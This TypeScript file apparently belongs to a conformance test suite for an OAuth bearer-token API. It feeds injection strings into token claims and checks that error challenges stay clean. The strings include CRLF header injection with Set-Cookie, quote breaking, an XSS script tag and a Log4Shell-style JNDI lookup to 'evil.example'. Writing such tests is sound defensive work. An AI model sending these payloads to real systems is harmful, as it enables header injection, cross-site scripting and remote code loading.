import type { Attack } from './attack.js'
import { INVALID_TOKEN } from './attack.js'
import { AUDIENCE } from '../conformance/party.js'

const INSUFFICIENT =
  'Bearer realm="api", error="insufficient_scope", error_description="The request requires higher privileges than the access token provides", scope="orders:read"'

/** What a claim would have to hold to end one header field and begin another, or to end a quoted string. */
export const INJECTIONS: Readonly<Record<string, string>> = {
  'a line end': 'x\r\nSet-Cookie: admin=1',
  'a line feed': 'x\nX-Injected: 1',
  'a quote': 'x", error="none", x="',
  'a backslash and a quote': 'x\\", y="',
  'a comma and a challenge': 'x, Basic realm="evil"',
  'a NUL': 'x\0y',
  'an escape sequence': '\u001b[2J\u001b[31mx',
  'a bell and a backspace': '\u0007\u0008x',
  'a C1 control': 'x\u0085\u009bx',
  'a line separator': 'x\u2028y\u2029z',
  'a right-to-left override': '\u202egnirts',
  'a letter beyond Latin 1': 'x\u0141y',
  'an emoji': '👩‍💻',
  'a script': '<script>alert(1)</script>',
  'a look-up': '${jndi:ldap://evil.example/a}',
}

/** The claims that a header field or a log line could be made of. */
export const INJECTED_CLAIMS: readonly string[] = [
  'sub',
  'client_id',
  'azp',
  'jti',
  'sid',
  'scope',
  'roles',
  'groups',
  'permissions',
  'acr',
  'tenant',
  'name',
  'realm',
]

/** Text of a token in the headers of the answer. */
export const headerInjection: readonly Attack[] = [
  {
    title: 'B4 B6: line ends, quotes and controls in every claim of a good token: the challenge holds nothing of them',
    async requests({ token }) {
      const [first = ['', '']] = Object.entries(INJECTIONS)
      const texts = Object.entries(INJECTIONS).flatMap(([name, text]) => [
        { name, text, claim: 'sub' },
        { name, text, claim: 'scope' },
      ])
      const others = INJECTED_CLAIMS.map((claim) => ({ name: first[0], text: first[1], claim }))
      const made = [...texts, ...others].map(async ({ name, text, claim }) => ({
        name: `${name} in ${claim}`,
        request: { path: '/orders', fields: [['Authorization', `Bearer ${await token({ [claim]: text })}`]] as const },
        status: [403],
        challenge: INSUFFICIENT,
      }))
      return Promise.all(made)
    },
  },
  {
    title: 'B4: line ends, quotes and controls in what a token is refused for',
    async requests({ token, sign, acme }) {
      const texts = Object.values(INJECTIONS)
      const tokens = await Promise.all(
        texts.flatMap((text) => [
          token({ iss: text }),
          token({ aud: `${AUDIENCE}${text}` }),
          token({}, { kid: text }),
          token({}, { typ: text }),
          token({ exp: text }),
          sign({ alg: text, kid: text }, { iss: acme.issuer }),
        ]),
      )
      return tokens.map((text, at) => ({
        name: `number ${at}`,
        request: { fields: [['Authorization', `Bearer ${text}`]] },
        status: [401],
        challenge: INVALID_TOKEN,
      }))
    },
  },
]
